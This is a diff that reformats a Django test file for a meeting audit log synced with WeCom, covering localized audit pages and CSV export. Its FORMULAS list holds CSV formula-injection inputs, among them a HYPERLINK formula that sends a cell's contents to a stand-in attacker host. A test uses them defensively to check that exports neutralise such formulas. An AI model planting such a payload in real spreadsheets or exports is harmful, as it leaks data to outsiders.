@@ -17,8 +17,7 @@ from meetings.models import AuditEvent, Meeting, Person, SyncAttempt
 from tests.meetings.factories import make_meeting
 
 pytestmark = pytest.mark.django_db
-PENDING, OK, FAILED = (AuditEvent.Outcome.PENDING, AuditEvent.Outcome.OK,
-                       AuditEvent.Outcome.FAILED)
+PENDING, OK, FAILED = (AuditEvent.Outcome.PENDING, AuditEvent.Outcome.OK, AuditEvent.Outcome.FAILED)
 
 
 def edit(meeting, actor, **changes):
@@ -46,23 +45,29 @@ def edited(people):
     Person.objects.create(userid="lisi", name="李四", source=Person.Source.CSV)
     meeting = make_meeting(title="周会", meetingid="hyread01")
     start = meeting.start
-    edit(meeting, people["administrator"], **{
-        "settings.auto_record_type": "cloud", "meeting_duration": 5400,
-        "settings.remind_scope": 4, "settings.ring_users": {"userid": ["lisi"]},
-        "settings.enable_waiting_room": True,
-    })
+    edit(
+        meeting,
+        people["administrator"],
+        **{
+            "settings.auto_record_type": "cloud",
+            "meeting_duration": 5400,
+            "settings.remind_scope": 4,
+            "settings.ring_users": {"userid": ["lisi"]},
+            "settings.enable_waiting_room": True,
+        },
+    )
     return meeting, start
 
 
-def test_an_edit_reads_as_the_edit_page_says_it_with_the_stored_value_beside(
-    client_for, edited
-):
+def test_an_edit_reads_as_the_edit_page_says_it_with_the_stored_value_beside(client_for, edited):
     meeting, _start = edited
     event = AuditEvent.objects.get(action="edit")
 
-    page = client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans").get(
-        reverse("admin:meetings_auditevent_change", args=[event.pk])
-    ).content.decode()
+    page = (
+        client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans")
+        .get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
+        .content.decode()
+    )
 
     assert "云录制" in page and '<code class="raw">none → cloud</code>' in page
     assert "<td>1小时</td><td>→</td><td>1小时30分钟</td>" in page
@@ -116,18 +121,35 @@ def test_a_create_event_leads_to_its_meeting_and_wecom_id_once_known(client_for,
 def settled(meeting, actor, outcome, attempts):
     """A pending edit, the attempts it caused, and (unless outcome is None) the worker's
     settlement, written as the shared design says."""
-    pending = audit.record(AuditEvent.Action.EDIT, actor=actor, meeting=meeting,
-                           outcome=PENDING, changes=[{"field": "title", "old": "a", "new": "b"}])
+    pending = audit.record(
+        AuditEvent.Action.EDIT,
+        actor=actor,
+        meeting=meeting,
+        outcome=PENDING,
+        changes=[{"field": "title", "old": "a", "new": "b"}],
+    )
     for errcode, errmsg in attempts:
         SyncAttempt.objects.create(
-            meeting=meeting, meetingid=meeting.meetingid, version=meeting.version,
-            path="meeting/update", started_at=timezone.now(), duration_ms=30, errcode=errcode,
-            errmsg=errmsg, outcome=SyncAttempt.Outcome.OK if errcode == 0
-            else SyncAttempt.Outcome.FAILED, request={}, event=pending,
+            meeting=meeting,
+            meetingid=meeting.meetingid,
+            version=meeting.version,
+            path="meeting/update",
+            started_at=timezone.now(),
+            duration_ms=30,
+            errcode=errcode,
+            errmsg=errmsg,
+            outcome=SyncAttempt.Outcome.OK if errcode == 0 else SyncAttempt.Outcome.FAILED,
+            request={},
+            event=pending,
         )
     if outcome is not None:
-        audit.record(AuditEvent.Action.SYNC_RESULT, meeting=meeting, settles=pending,
-                     outcome=outcome, detail="" if outcome == OK else "failed: 会议不存在")
+        audit.record(
+            AuditEvent.Action.SYNC_RESULT,
+            meeting=meeting,
+            settles=pending,
+            outcome=outcome,
+            detail="" if outcome == OK else "failed: 会议不存在",
+        )
     return pending
 
 
@@ -140,14 +162,19 @@ def test_the_csv_and_list_show_the_true_outcome_and_wecoms_answer(client_for, pe
     client = client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")
 
     rows = {int(r["event"]): r for r in export_dicts(client)}
-    by_outcome = client.get(reverse("admin:meetings_auditevent_changelist"),
-                            {"outcome": "failed"}).context["cl"].result_list
+    by_outcome = (
+        client.get(reverse("admin:meetings_auditevent_changelist"), {"outcome": "failed"})
+        .context["cl"]
+        .result_list
+    )
 
     assert (rows[done.pk]["outcome"], rows[done.pk]["WeCom errcode"]) == ("Done", "0")
     assert rows[done.pk]["outcome when written"] == "pending"
     assert rows[failed.pk]["outcome"] == "Failed"
     assert (rows[failed.pk]["WeCom errcode"], rows[failed.pk]["WeCom errmsg"]) == (
-        "400031", "meeting not exist")
+        "400031",
+        "meeting not exist",
+    )
     settlement = AuditEvent.objects.get(settles=failed)
     assert rows[failed.pk]["settled by event"] == str(settlement.pk)
     assert rows[settlement.pk]["settles event"] == str(failed.pk)
@@ -155,8 +182,14 @@ def test_the_csv_and_list_show_the_true_outcome_and_wecoms_answer(client_for, pe
     assert {e.pk for e in by_outcome} == {failed.pk, settlement.pk}
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
-            "\tstart", "\rstart"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tstart",
+    "\rstart",
+]
 
 
 def test_no_csv_cell_starts_a_formula(client_for, people):
@@ -184,8 +217,10 @@ def test_a_role_change_reads_in_chinese(client_for, people):
     people["auditor"].groups.add(Group.objects.get(name="会议管理员"))
     event = AuditEvent.objects.filter(action="role_change").order_by("-pk").first()
 
-    page = client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans").get(
-        reverse("admin:meetings_auditevent_change", args=[event.pk])
-    ).content.decode()
+    page = (
+        client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans")
+        .get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
+        .content.decode()
+    )
 
     assert "角色变更" in page and "用户 li.audit" in page and "角色组" in page
